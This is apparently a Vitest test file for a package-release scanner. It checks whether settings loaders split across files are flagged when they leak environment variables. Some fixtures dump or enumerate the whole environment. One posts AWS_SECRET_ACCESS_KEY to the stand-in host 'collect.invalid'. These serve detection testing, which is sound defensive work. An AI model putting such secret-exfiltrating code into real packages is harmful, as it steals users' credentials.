import { describe, expect, it } from 'vitest';
import { diffProfiles } from '../../src/diffs/diff-profiles.ts';
import { judgeRelease } from '../../src/policies/judge-release.ts';
import { profileOf } from '../profiles/profile-of.ts';

const manifest = (version: string): string =>
  JSON.stringify({ name: 'notes', version, type: 'module', main: 'index.js' });

const server = `
const config = load(process.env);
export async function list() {
  return fetch(\`\${config.url}/notes\`, { headers: { authorization: \`Bearer \${config.token}\` } });
}
`;

/** What is told at which severity of a release that takes its settings in another file than the one that uses them. */
function told(settings: string, code: string, others: Record<string, string> = {}): string[] {
  const diff = diffProfiles(
    profileOf({ 'package.json': manifest('1.0.0'), 'index.js': 'export const list = () => [];' }),
    profileOf({
      'package.json': manifest('1.1.0'),
      'index.js': code,
      'settings.js': settings,
      ...others,
    }),
  );
  return judgeRelease({ diff, subject: 'pkg:npm/notes@1.1.0', firstSight: false }).map(
    ({ severity, rule }) => `${severity} ${rule}`,
  );
}

const loud = expect.stringMatching(/^(?:high|critical) /u);
const load = "import { load } from './settings.js';";
const named =
  "{ return { url: env.NOTES_URL ?? 'https://api.notes.example', token: env.NOTES_TOKEN }; }";

describe('an environment that is given to a function of another file', () => {
  it.each([
    ['takes its settings by name', `export function load(env) ${named}`, load],
    ['is a constant', `export const load = (env) => (${named.slice(9, -3)});`, load],
    ['is listed at the end', `function load(env) ${named} export { load };`, load],
    [
      'is exported as the default',
      `export default function (env) ${named}`,
      "import load from './settings.js';",
    ],
    [
      'has another name here',
      `export function settingsOf(env) ${named}`,
      "import { settingsOf as load } from './settings.js';",
    ],
    [
      'takes it apart',
      'export function load({ NOTES_URL: url, NOTES_TOKEN: token }) { return { url, token }; }',
      load,
    ],
    [
      'hands it to one that does',
      `const read = (vars) => (${named.slice(9, -3).replaceAll('env.', 'vars.')}); export function load(env) { return read(env); }`,
      load,
    ],
    [
      'keeps what a schema names',
      "import { z } from 'zod'; const schema = z.object({ NOTES_URL: z.string(), NOTES_TOKEN: z.string() }); export function load(env) { const kept = schema.parse(env); return { url: kept.NOTES_URL, token: kept.NOTES_TOKEN }; }",
      load,
    ],
  ])('is not loud where it %s', (_, settings, imported) => {
    expect(told(settings, imported + server)).not.toContainEqual(loud);
  });

  it('is not loud where a third file passes the function on', () => {
    const others = { 'all.js': "export * from './settings.js';" };
    const code = `import { load } from './all.js';${server}`;
    expect(told(`export function load(env) ${named}`, code, others)).not.toContainEqual(loud);
  });

  it.each([
    ['gives all of it back', 'export function load(env) { return { ...env, token: env.KEY }; }'],
    [
      'keeps all of it',
      'export const all = []; export function load(env) { all.push(env); return { token: env.KEY }; }',
    ],
    [
      'asks by a computed name',
      'export function load(env) { return { token: Object.keys(env).map((key) => env[key]) }; }',
    ],
    [
      'asks for its arguments',
      'export function load(env) { return { url: env.URL, token: JSON.stringify(arguments) }; }',
    ],
    [
      'is replaced later',
      `export let load = (env) => (${named.slice(9, -3)}); load = (all) => ({ token: JSON.stringify(all) });`,
    ],
    [
      'is a function that is replaced later',
      `export function load(env) ${named} load = (all) => ({ token: JSON.stringify(all) });`,
    ],
  ])('is loud where it %s', (_, settings) => {
    expect(told(settings, load + server)).toContainEqual(loud);
  });

  it('is loud where nobody knows the function', () => {
    expect(told('export const other = 1;', load + server)).toContainEqual(loud);
  });

  it('is loud where what it takes by name is a secret of somebody else that goes away', () => {
    const code = `import { load } from './settings.js';
const config = load(process.env);
export const list = () => fetch('https://collect.invalid', { method: 'POST', body: config.token });`;
    expect(
      told('export const load = (env) => ({ token: env.AWS_SECRET_ACCESS_KEY });', code),
    ).toContainEqual(loud);
  });
});
